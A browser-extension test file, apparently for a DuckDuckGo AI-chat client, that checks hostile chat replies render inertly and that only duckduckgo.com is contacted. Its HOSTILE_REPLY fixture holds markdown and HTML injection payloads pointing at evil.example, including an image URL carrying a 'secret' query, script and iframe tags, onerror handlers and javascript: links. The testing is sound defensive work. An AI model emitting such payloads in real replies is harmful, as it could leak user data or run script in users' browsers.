import { chatRequests } from './chat-requests';
import { expect, test } from './extension';

const HOSTILE_REPLY = `
![image](https://evil.example/inline.png?q=secret)
![image][ref]

[ref]: https://evil.example/reference.png
<img src="https://evil.example/html.png" onerror="document.title='run'">
<script>document.title = 'run'</script>
<iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="preconnect" href="https://evil.example">
[click](javascript:document.title='run')
[data](data:text/html,<script>document.title='run'</script>)

https://evil.example/bare

\`\`\`html
<img src="https://evil.example/code.png">
\`\`\`
`;

test('a hostile reply opens no connection and runs nothing', async ({
  chat,
  emulator,
  extension,
}) => {
  const opened: string[] = [];
  extension.context.on('request', (request) => opened.push(request.url()));
  emulator.script.reply = HOSTILE_REPLY;
  await chat.ask('A question');
  await chat.waitForReply();
  await chat.page.waitForTimeout(500);

  expect(opened.filter((url) => url.includes('evil.example'))).toEqual([]);
  expect(await chat.page.title()).not.toBe('run');
  const made = chat.lastReply.locator('script, iframe, meta, link, img, form, base, [style]');
  await expect(made).toHaveCount(0);
  await expect(chat.lastReply.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
  await expect(chat.lastReply).toContainText("<script>document.title = 'run'</script>");
});

test('pages get nothing from the extension, and keep their own headers', async ({
  chat,
  emulator,
  extension,
}) => {
  await chat.ask('A question'); // the header rules are in force from here on
  await chat.waitForReply();
  const page = await extension.context.newPage();
  await page.goto('https://duckduckgo.com/aichat');
  const before = emulator.requests.length;
  await page.evaluate(() => fetch('/duckchat/v1/status').catch(() => {}));
  const own = emulator.requests.slice(before).find(({ path }) => path.endsWith('/status'));
  expect(own?.headers.referer).toBe('https://duckduckgo.com/aichat');
  expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain('sidelight');

  const [post] = chatRequests(emulator);
  expect(post?.headers.origin).toBe('https://duckduckgo.com');
  expect(post?.headers.referer).toBe('https://duckduckgo.com/');
  expect(post?.cookies).toMatchObject({ dcs: '1', dcm: '3' });
});

test('only the chosen service is contacted', async ({ chat, emulator, extension }) => {
  const opened = new Set<string>();
  extension.context.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith('http')) opened.add(host);
  });
  await chat.ask('A question');
  await chat.waitForReply();
  expect([...opened].filter((host) => host !== 'duckduckgo.com')).toEqual([]);
  expect(new Set(emulator.requests.map(({ host }) => host))).toEqual(new Set(['duckduckgo.com']));
});
